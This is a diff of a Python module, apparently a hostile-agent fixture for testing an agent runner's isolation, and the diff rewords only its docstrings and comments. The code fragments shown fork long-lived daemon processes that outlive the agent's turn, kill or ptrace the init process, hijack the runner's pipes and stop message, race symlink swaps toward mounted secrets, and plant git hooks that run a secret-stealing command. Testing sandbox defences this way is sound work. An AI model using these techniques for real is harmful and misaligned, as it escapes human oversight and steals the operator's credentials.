@@ -1,9 +1,10 @@
 """
-What an agent does that wants the runner's secrets: a program for the container of an agent.
+A hostile agent that tries to obtain the runner's secrets: a program for an agent's container.
 
-It leaves processes behind that outlive the agent's turn. They kill, stop and trace what they can,
-read the runner's word to stop away, and swap folders for links to where the runner has its secrets
-mounted; besides there are links, git's settings, hooks and HOME files, for whoever is careless.
+It leaves processes behind that outlive the agent's prompt turn. They kill, stop and trace what they
+can, consume the runner's stop message, and swap folders for links to the places where the runner
+has its secrets mounted. It also leaves links, git settings, hooks and HOME files for programs that
+follow them carelessly.
 """
 
 import ctypes
@@ -63,14 +64,14 @@ HOOKS = (
 
 
 def main() -> None:
-    """Set traps, and leave behind what springs them."""
+    """Set the traps, and leave the processes behind that use them."""
     for root in (WORKSPACE, HOME):
         _link(root)
     with suppress(OSError):
         _configure()
     for work in (_swap, _kill, _listen, _trace):
         _leave_behind(work)
-    # So that they are at work when the turn ends.
+    # Wait, so that they are at work when the prompt turn ends.
     time.sleep(2)
 
 
@@ -91,7 +92,7 @@ def _link(root: Path) -> None:
 
 
 def _configure() -> None:
-    """Leave git's settings and hooks wherever git might look."""
+    """Write git's settings and hooks everywhere that git might read them."""
     hook = f"#!/bin/sh\n{STEAL}\n"
     for folder in (WORKSPACE / "hooks", WORKSPACE / ".git" / "hooks"):
         folder.mkdir(parents=True, exist_ok=True)
@@ -113,7 +114,7 @@ def _configure() -> None:
 
 
 def _leave_behind(work: object) -> None:
-    """Have a process of its own session do something for ever."""
+    """Repeat ``work`` forever in a daemon process with a session of its own."""
     assert callable(work)
     if os.fork():
         return
@@ -129,7 +130,7 @@ def _leave_behind(work: object) -> None:
 
 
 def _swap() -> None:
-    """Turn folders into links and back, while somebody walks through them."""
+    """Swap folders for links and back, to race with whatever traverses them."""
     places = []
     for root in (WORKSPACE, HOME):
         for folder, keys in FOLDERS.items():
@@ -154,7 +155,9 @@ def _swap() -> None:
 
 
 def _kill() -> None:
-    """End or stop what is not the agent's own: an init, whoever waits for the runner's word."""
+    """
+    Kill or stop processes that are not its own, such as the init process and its waiting shells.
+    """
     own = {os.getpid(), os.getppid()}
     for process in Path("/proc").glob("[0-9]*"):
         command = (process / "cmdline").read_bytes()
@@ -166,7 +169,7 @@ def _kill() -> None:
 
 
 def _listen() -> None:
-    """Read what the runner writes to others, and hold every pipe open, in both directions."""
+    """Read the runner's pipes, and hold each of them open in both directions."""
     held = []
     for pipe in PIPES.iterdir():
         for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
@@ -183,7 +186,7 @@ def _listen() -> None:
 
 
 def _trace() -> None:
-    """Attach to the first process, and look for what it has open."""
+    """Attach to the first process, and try to open its file descriptors."""
     libc = ctypes.CDLL(None, use_errno=True)
     libc.ptrace(PTRACE_SEIZE, 1, None, None)
     for file in Path("/proc/1/fd").iterdir():
